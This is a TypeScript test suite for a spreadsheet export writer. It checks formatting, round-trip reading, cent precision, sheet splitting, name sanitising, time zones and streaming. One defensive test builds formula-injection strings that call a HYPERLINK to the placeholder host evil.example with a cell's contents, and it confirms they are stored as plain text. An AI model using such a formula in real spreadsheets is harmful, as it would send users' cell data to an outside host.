import { execFile } from 'node:child_process'
import { existsSync } from 'node:fs'
import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { delimiter, join } from 'node:path'
import { promisify } from 'node:util'
import ExcelJS from 'exceljs'
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import type { Column, SheetContent } from '../../../src/formats/spreadsheet/sheet.ts'
import { writeSheet } from '../../../src/formats/spreadsheet/write.ts'
import { bytesOf, read, sayable } from './book.ts'

const columns: Column[] = [
  { header: 'Name & <number>', type: 'text', width: 24 },
  { header: 'Balance', type: 'money', width: 12 },
  { header: 'Age', type: 'integer', width: 8 },
  { header: 'Since', type: 'datetime', width: 20 },
]
const since = new Date('2026-08-01T18:30:15.250Z')
const row = ['Zoë', 1235, 18, since]

const written = (rows: SheetContent['rows'], more: Partial<SheetContent> = {}) =>
  bytesOf(writeSheet({ sheet_name: 'Clients', columns, rows, created_at: since, ...more }))

async function openedInExcel(file: Buffer): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook()
  await workbook.xlsx.load(file as unknown as ExcelJS.Buffer)
  return workbook
}

const unzip = (process.env.PATH ?? '')
  .split(delimiter)
  .map((folder) => join(folder, 'unzip'))
  .find((path) => existsSync(path))

const onlyText: Column[] = [{ header: 'Text', type: 'text', width: 10 }]
const texts = (list: readonly string[]) =>
  written(
    list.map((text) => [text]),
    { columns: onlyText },
  )

describe('an exported sheet', () => {
  test('opens with a bold frozen header, a filter, widths and formats', async () => {
    const workbook = await openedInExcel(await written([row, row]))

    const sheet = workbook.getWorksheet('Clients')
    expect(sheet?.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 })
    expect(sheet?.autoFilter).toBe('A1:D3')
    expect(sheet?.getCell('A1')).toMatchObject({ value: 'Name & <number>', font: { bold: true } })
    expect(sheet?.getColumn(1).width).toBe(24)
    expect(sheet?.getCell('A2').value).toBe('Zoë')
    expect(sheet?.getCell('B2')).toMatchObject({ value: 12.35, numFmt: '#,##0.00' })
    expect(sheet?.getCell('C2')).toMatchObject({ value: 18, numFmt: '0' })
    expect(sheet?.getCell('D2').value).toEqual(since)
    expect(sheet?.getCell('D2').numFmt).toContain('yyyy')
  })

  test('is read back by our own reader as it was written', async () => {
    const rows = [row, ['', null, undefined, null], ['last', -5, 0, '2026-01-31T23:59:59.999Z']]

    const result = await read(await written(rows))

    const formats = new Map([[1, '#,##0.00']])
    expect(result.slice(1)).toEqual([
      { number: 2, cells: ['Zoë', 12.35, 18, since], has_formula: false, formats },
      {
        number: 4,
        formats,
        cells: ['last', -0.05, 0, new Date('2026-01-31T23:59:59.999Z')],
        has_formula: false,
      },
    ])
  })

  test('has each amount to the cent, however large', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(fc.maxSafeInteger(), { minLength: 1 }), async (amounts) => {
        const file = await written(
          amounts.map((amount) => [amount]),
          { columns: [{ header: 'Amount', type: 'money', width: 10 }] },
        )

        const cells = (await read(file)).slice(1).map(({ cells: [cell] }) => cell)
        // The nearest double to the exact decimal, which is what Excel itself would hold.
        expect(cells).toEqual(amounts.map((amount) => Number(`${amount}e-2`)))
      }),
      { numRuns: 30 },
    )
  })

  test.each(['=', '+', '-', '@', '\t', '\r', '\u0000', '\n', ' =', '＝'])(
    'writes a text that begins with %j as text and never as a formula',
    async (prefix) => {
      const text = `${prefix}HYPERLINK("http://evil.example?"&A1,"x")`

      const file = await texts([text])

      const cell = (await openedInExcel(file)).getWorksheet(1)?.getCell('A2')
      expect(cell?.type).toBe(ExcelJS.ValueType.String)
      expect(cell?.value).toBe(text.replace('\u0000', ''))
      expect(await read(file)).toMatchObject([{}, { number: 2, has_formula: false }])
      expect(await sheetXml(file)).toMatch(/<c r="A2" s="5" t="inlineStr">/)
      expect(await sheetXml(file)).not.toContain('<f')
    },
  )

  test('keeps every text that XML can carry', async () => {
    const anyText = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 60 }),
      fc.constantFrom(
        '_x0041_',
        '_x005F_x0041_',
        'a_x',
        ' a ',
        'a\r\nb',
        '\ud800',
        '\u2028',
        ']]>',
        '&amp;',
      ),
    )
    await fc.assert(
      fc.asyncProperty(fc.array(anyText, { minLength: 1, maxLength: 20 }), async (list) => {
        const file = await texts(list)

        const found = new Map((await read(file)).map(({ number, cells }) => [number, cells[0]]))
        list.forEach((text, i) => {
          expect(found.get(i + 2) ?? '').toBe(sayable(text))
        })
      }),
      { numRuns: 300 },
    )
  })

  test('cuts a text at what a cell may hold', async () => {
    const [, cell] = await read(await texts(['x'.repeat(40_000)]))

    expect(cell?.cells[0]).toHaveLength(32_767)
  })

  test('is the same, byte for byte, when it is made again', async () => {
    async function* slowly() {
      for (const one of [row, row]) {
        await new Promise((resolve) => setImmediate(resolve))
        yield one
      }
    }

    expect((await written([row, row])).equals(await written(slowly()))).toBe(true)
    expect((await written([row], { level: 1 })).equals(await written([row], { level: 1 }))).toBe(
      true,
    )
  })

  test('goes on in further sheets where one is full, each with its header', async () => {
    const rows = Array.from({ length: 7 }, (_, i) => [`row ${i}`, i, i, since])

    const workbook = await openedInExcel(await written(rows, { rows_per_sheet: 4 }))

    const sheets = workbook.worksheets.map((sheet) => [
      sheet.name,
      sheet.rowCount,
      sheet.autoFilter,
    ])
    expect(sheets).toEqual([
      ['Clients', 4, 'A1:D4'],
      ['Clients (2)', 4, 'A1:D4'],
      ['Clients (3)', 2, 'A1:D2'],
    ])
    expect(workbook.getWorksheet('Clients (3)')?.getCell('A2').value).toBe('row 6')
  })

  test('without rows, or with exactly one sheet of them, has one sheet', async () => {
    const empty = await openedInExcel(await written([]))
    const full = await openedInExcel(await written([row, row, row], { rows_per_sheet: 4 }))

    expect(empty.worksheets).toHaveLength(1)
    expect(empty.getWorksheet(1)?.rowCount).toBe(1)
    expect(full.worksheets).toHaveLength(1)
  })

  test.each([
    ['Bars: [2026] a/b\\c?*', 'Bars   2026  a b c'],
    ["'quoted'", 'quoted'],
    ['', 'Sheet'],
    ['A name that is far longer than Excel allows', 'A name that is far longer than '],
    ['Tom & "Jerry" <3>', 'Tom & "Jerry" <3>'],
    ["Guests' bars", "Guests' bars"],
  ])('named %j has the sheet %j', async (sheet_name, name) => {
    const workbook = await openedInExcel(await written([row], { sheet_name }))

    expect(workbook.worksheets[0]?.name).toBe(name)
  })

  test('shows moments in the zone of the event, summer and winter', async () => {
    const moments = ['2026-03-29T00:59:59Z', '2026-03-29T01:00:00Z', '2026-12-31T23:30:00Z']

    const file = await written(
      moments.map((at) => [null, null, null, at]),
      { time_zone: 'Europe/Zurich' },
    )

    expect((await read(file)).slice(1).map(({ cells }) => cells[3])).toEqual([
      new Date('2026-03-29T01:59:59Z'),
      new Date('2026-03-29T03:00:00Z'),
      new Date('2027-01-01T00:30:00Z'),
    ])
  })

  test.skipIf(!unzip)('is a sound archive to unzip (skipped where unzip is absent)', async () => {
    const folder = await mkdtemp(join(tmpdir(), 'sheet-'))
    const path = join(folder, 'a.xlsx')
    await writeFile(path, await written(Array.from({ length: 5000 }, () => row)))

    const { stdout } = await promisify(execFile)(unzip ?? '', ['-t', path])
    await rm(folder, { recursive: true })

    expect(stdout).toContain('No errors detected')
  })

  test('takes rows only as fast as its bytes are taken, and lets go of them', async () => {
    let taken = 0
    let isClosed = false
    async function* endless() {
      try {
        for (;;) {
          taken++
          yield row
        }
      } finally {
        isClosed = true
      }
    }

    let bytes = 0
    for await (const chunk of writeSheet({
      sheet_name: 'A',
      columns,
      rows: endless(),
      created_at: since,
    })) {
      bytes += chunk.length
      if (bytes > 100_000) break
    }

    const takenAtOnce = taken
    await expect.poll(() => isClosed).toBe(true)
    expect(taken).toBeLessThan(takenAtOnce + 5000)
  })

  test('fails where its rows fail, and where a value is of another type', async () => {
    async function* failing() {
      yield row
      throw new Error('the database went away')
    }

    await expect(written(failing())).rejects.toThrow('the database went away')
    await expect(written([['a', 12.5, 1, since]])).rejects.toThrow('whole minor units')
    await expect(written([['a', 1, 1.5, since]])).rejects.toThrow('not an integer')
    await expect(written([['a', 1, 1, 'soon']])).rejects.toThrow('not a date')
  })
})

async function sheetXml(file: Buffer): Promise<string> {
  const { ZipReader } = await import('../../../src/formats/spreadsheet/zip_reader.ts')
  const { defaultLimits } = await import('../../../src/formats/spreadsheet/limits.ts')
  const zip = await ZipReader.open(file, defaultLimits)
  return (await bytesOf(zip.part('xl/worksheets/sheet1.xml'))).toString()
}
